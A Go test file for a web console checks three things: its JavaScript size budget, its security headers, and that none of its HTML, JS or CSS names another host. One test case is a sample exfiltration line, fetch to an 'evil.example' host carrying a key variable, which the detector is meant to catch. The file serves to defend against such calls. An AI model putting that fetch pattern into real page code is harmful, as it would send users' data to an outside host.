package console_test

import (
	"io/fs"
	"net/http"
	"net/http/httptest"
	"path"
	"regexp"
	"slices"
	"strings"
	"testing"

	"github.com/flagplane/flagplane/shared/console"
)

// jsBudget is the bound on the JavaScript a browser is sent,
// gzipped (as the server sends it): 250 KB.
const jsBudget = 250_000

func TestJavaScriptStaysWithinItsBudget(t *testing.T) {
	sizes, err := console.Sizes()
	if err != nil {
		t.Fatal(err)
	}
	var names []string
	raw, gz, files := 0, 0, 0
	for name, s := range sizes {
		names = append(names, name)
		if path.Ext(name) == ".js" {
			raw += s[0]
			gz += s[1]
			files++
		}
	}
	if files == 0 {
		t.Fatal("the console has no JavaScript file: the budget checks nothing")
	}
	slices.Sort(names)
	for _, name := range names {
		t.Logf("%-28s %7d bytes, %6d gzipped", name, sizes[name][0], sizes[name][1])
	}
	t.Logf("JavaScript: %d files, %d bytes, %d gzipped (budget %d)", files, raw, gz, jsBudget)
	if gz > jsBudget {
		t.Errorf("the console's JavaScript is %d bytes gzipped, over the budget of %d", gz, jsBudget)
	}
}

// Every file, the page included, carries the policy that lets the page
// load nothing from another host.
func TestEveryFileCarriesTheSecurityHeaders(t *testing.T) {
	want := map[string]string{
		"Content-Security-Policy": "default-src 'none'",
		"X-Content-Type-Options":  "nosniff",
		"X-Frame-Options":         "DENY",
		"Referrer-Policy":         "no-referrer",
	}
	h := console.Handler()
	for _, name := range fileNames(t) {
		url := console.Prefix + name
		if name == "index.html" {
			url = "/"
		}
		t.Run(url+" carries the console's security headers", func(t *testing.T) {
			rec := httptest.NewRecorder()
			h.ServeHTTP(rec, httptest.NewRequest(http.MethodGet, url, nil))
			if rec.Code != http.StatusOK {
				t.Fatalf("status %d", rec.Code)
			}
			for k, v := range want {
				if got := rec.Header().Get(k); !strings.Contains(got, v) {
					t.Errorf("%s is %q, want it to hold %q", k, got, v)
				}
			}
			for _, directive := range []string{"script-src 'self'", "style-src 'self'", "connect-src 'self'"} {
				if csp := rec.Header().Get("Content-Security-Policy"); !strings.Contains(csp, directive) {
					t.Errorf("the policy %q lacks %s", csp, directive)
				}
			}
		})
	}
}

// Nothing in the tree names another host outside comments: no http(s)
// URL, no protocol-relative //host in an attribute, a string or url().
// XML namespace names (an SVG chart's) are identifiers, never fetched.
var (
	absoluteURL  = regexp.MustCompile(`(?i)https?://[^\s'"` + "`" + `)<>]*`)
	relativeHost = regexp.MustCompile(`["'` + "`" + `(=]\s*//[A-Za-z0-9-]+(\.[A-Za-z0-9-]+)+`)
	namespaces   = []string{"http://www.w3.org/2000/svg", "http://www.w3.org/1999/xlink", "http://www.w3.org/1999/xhtml"}
	// Comments: /* */ in JS and CSS, // to the end of a JS line (after
	// the start of the line, a space, ; { or }, so the // of "https://",
	// '//host' or url(//host) is not one), <!-- --> in HTML.
	blockComment = regexp.MustCompile(`(?s)/\*.*?\*/`)
	lineComment  = regexp.MustCompile(`(?m)(^|[\s;{}])//[^\n]*`)
	htmlComment  = regexp.MustCompile(`(?s)<!--.*?-->`)
)

func TestNoFileNamesAnotherHost(t *testing.T) {
	files := fileNames(t)
	cases := []struct {
		name, text string
		bad        bool
	}{
		{name: "a script source on a CDN is found", text: `<script src="https://cdn.example.com/x.js"></script>`, bad: true},
		{name: "a protocol-relative stylesheet is found", text: `<link href="//cdn.example.com/x.css">`, bad: true},
		{name: "a fetch to another host is found", text: "fetch(`http://evil.example/${k}`)", bad: true},
		{name: "a CSS url() of another host is found", text: `a { background: url(//img.example.com/a.png) }`, bad: true},
		{name: "a URL in a line comment is not", text: "x = 1; // see https://www.w3.org/WAI/ARIA/apg/\n"},
		{name: "a URL in a block comment is not", text: "/* https://example.com */ a {}"},
		{name: "the SVG namespace is not", text: `document.createElementNS("http://www.w3.org/2000/svg", "svg")`},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			if got := len(otherHosts(tc.text)) > 0; got != tc.bad {
				t.Errorf("found %v in %q, want %v", otherHosts(tc.text), tc.text, tc.bad)
			}
		})
	}
	for _, name := range files {
		ext := path.Ext(name)
		if ext != ".html" && ext != ".js" && ext != ".css" {
			continue
		}
		t.Run(name+" names no other host", func(t *testing.T) {
			b, err := fs.ReadFile(console.Files(), name)
			if err != nil {
				t.Fatal(err)
			}
			text := string(b)
			if ext == ".html" {
				text = htmlComment.ReplaceAllString(text, "")
			}
			if found := otherHosts(text); len(found) > 0 {
				t.Errorf("%s names %v: the console loads and calls its own origin only", name, found)
			}
		})
	}
}

// otherHosts lists the URLs of text, bar its comments, that reach another
// host. HTML comments are taken out by the caller.
func otherHosts(text string) []string {
	text = blockComment.ReplaceAllString(text, "")
	text = lineComment.ReplaceAllString(text, "$1")
	var out []string
	for _, u := range absoluteURL.FindAllString(text, -1) {
		if !slices.Contains(namespaces, u) {
			out = append(out, u)
		}
	}
	return append(out, relativeHost.FindAllString(text, -1)...)
}

func fileNames(tb testing.TB) []string {
	tb.Helper()
	var out []string
	err := fs.WalkDir(console.Files(), ".", func(p string, d fs.DirEntry, err error) error {
		if err == nil && !d.IsDir() {
			out = append(out, p)
		}
		return err
	})
	if err != nil || len(out) == 0 {
		tb.Fatalf("the console's files: %v (%d)", err, len(out))
	}
	return out
}
